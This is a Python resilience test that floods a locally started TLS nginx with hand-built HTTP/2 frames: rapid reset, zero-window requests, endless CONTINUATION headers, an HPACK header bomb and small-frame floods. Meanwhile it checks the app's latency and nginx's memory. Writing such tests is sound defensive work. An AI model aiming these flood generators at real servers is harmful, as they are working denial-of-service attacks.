"""A stranger who speaks HTTP/2 to nginx in its own frames: requests that are reset at once, streams whose answers
are never read, heads without an end, and small frames without number. Slips and the desk go on beside them.
"""

import socket
import ssl
import struct
import threading
import time
from contextlib import closing, contextmanager, suppress
from dataclasses import replace

import psutil

from deploy.processes.proxy import make_certificate, make_nginx_service
from deploy.processes.supervisor import Running
from tests.attacks.ground import time_desk, time_slip, unique_name
from tests.server import free_port

CONNECTIONS, SECONDS, STRANGER = 20, 4, "127.0.0.67"
LONGEST = 3.0
MOST_MB = 200
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, NO_WINDOW = 1, 4, 4
DEAR, MOST_STREAMS = "/results/", 128


def attack(ground):
    code = ground.desk.new_game("HTTP/2")
    (phone,) = ground.phones(code, unique_name("Honest"))
    ground.desk.do(code, "draw", "open", "start")
    told = []
    with _with_tls(ground) as (port, process):
        before = _memory(process)
        assert b"\x88" in _answer_of(port), "nginx does not speak HTTP/2"
        for flood in (_reset_at_once, _never_read, _endless_head, _packed_head, _small_frames):
            slips, desks, frames = _measure(ground, code, phone, port, flood)
            assert max(slips) < LONGEST, f"a receipt took {max(slips):.1f} s beside {flood.__name__}"
            assert max(desks) < LONGEST, f"the desk took {max(desks):.1f} s beside {flood.__name__}"
            grown = _memory(process) - before
            assert grown < MOST_MB, f"nginx took {grown:.0f} MB for {flood.__name__}"
            told.append(
                f"{flood.__name__[1:]} {frames:,} ({max(slips):.2f} s, {max(desks):.2f} s, {grown:.0f} MB)"
            )
    return "frames of each flood, the slowest receipt and desk, and what nginx took: " + "; ".join(told)


@contextmanager
def _with_tls(ground):
    """Run a second nginx in front of the same servers, with a certificate; yield its port and process."""
    folder = ground.folder / "tls"
    folder.mkdir(exist_ok=True)
    plan = replace(
        ground.program.plan,
        entrance=free_port(),
        certificate=make_certificate(folder / "isotop.crt", "localhost"),
    )
    nginx = Running(make_nginx_service(plan, folder), folder / "nginx.log")
    nginx.start()
    try:
        nginx.wait_until_ready()
        yield plan.entrance, psutil.Process(nginx.pid)
    finally:
        nginx.stop()


def _measure(ground, code, phone, port, flood):
    """Return the seconds of slips and of the desk beside a flood, and how many frames nginx took."""
    until, sent = time.monotonic() + SECONDS, []
    threads = [threading.Thread(target=_run, args=(port, flood, until, sent)) for _each in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    slips, desks = [], []
    while time.monotonic() < until or not slips:
        slips.append(time_slip(phone, code))
        desks.append(time_desk(ground, code))
        time.sleep(1.1)  # sixty slips a minute for a player
    for thread in threads:
        thread.join()
    return slips, desks, sum(sent)


def _run(port, flood, until, sent):
    """Flood on one connection after another, as each is closed."""
    while time.monotonic() < until:
        with suppress(OSError), _connect(port) as connection:
            for frames in flood():
                connection.sendall(b"".join(frames))
                sent.append(len(frames))
                if time.monotonic() > until:
                    break
            time.sleep(max(0, until - time.monotonic()))
        time.sleep(0.05)


def _reset_at_once():
    """Ask for a dear page and take it back, again and again."""
    for first in range(1, 2**31, 200):
        streams = range(first, first + 200, 2)
        yield [
            part for stream in streams for part in (_request(stream), _frame(RESET, 0, stream, b"\0\0\0\x08"))
        ]


def _never_read():
    """Ask for pages with no window to send them in."""
    yield [_frame(SETTINGS, 0, 0, struct.pack(">HI", NO_WINDOW, 0))]
    yield [_request(stream) for stream in range(1, 2 * MOST_STREAMS, 2)]


def _endless_head():
    """Begin a head, and go on with it without an end."""
    yield [_frame(HEADERS, END_STREAM, 1, _request_head())]
    while True:
        yield [_frame(CONTINUATION, 0, 1, b"".join(_field(f"x-{key}", "a" * 100) for key in range(100)))] * 10


def _packed_head():
    """Name a long field once, and then by its number, thousands of times in each head."""
    long = b"\x40" + _text("x-long") + _text("a" * 4000)
    for stream in range(1, 2**31, 2):
        head = _request_head() + (long if stream == 1 else b"") + b"\xbe" * 10_000
        yield [_frame(HEADERS, END_STREAM | END_HEADERS, stream, head)]


def _small_frames():
    """Settings, pings and empty bodies."""
    yield [_frame(HEADERS, END_HEADERS, 1, _request_head())]
    while True:
        yield [_frame(SETTINGS, 0, 0, b""), _frame(PING, 0, 0, bytes(8)), _frame(DATA, 0, 1, b"")] * 100


def _request(stream):
    return _frame(HEADERS, END_STREAM | END_HEADERS, stream, _request_head())


def _request_head():
    """Return the fields of a GET, of which HPACK's own table has the first two."""
    return b"\x82\x87" + _field(":path", DEAR) + _field(":authority", "localhost")


def _field(name, value):
    return b"\0" + _text(name) + _text(value)


def _text(value):
    """Return a text of HPACK: its length, in seven bits and what they lack, and its letters as they are."""
    length, more = len(value), b""
    if length >= 127:
        rest, length = length - 127, 127
        while rest >= 128:
            more += bytes([rest % 128 + 128])
            rest //= 128
        more += bytes([rest])
    return bytes([length]) + more + value.encode()


def _frame(kind, flags, stream, content):
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def _connect(port):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection(("127.0.0.1", port), 10, source_address=(STRANGER, 0))
    connection = context.wrap_socket(plain)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0, b""))
    return connection


def _answer_of(port):
    """Return what one honest request is answered with, whose head begins with that of 200."""
    with closing(_connect(port)) as connection:
        connection.sendall(_request(1))
        answer = b""
        while b"\x88" not in answer and (piece := connection.recv(65536)):
            answer += piece
        return answer


def _memory(process):
    return sum(each.memory_info().rss for each in (process, *process.children(recursive=True))) / 2**20
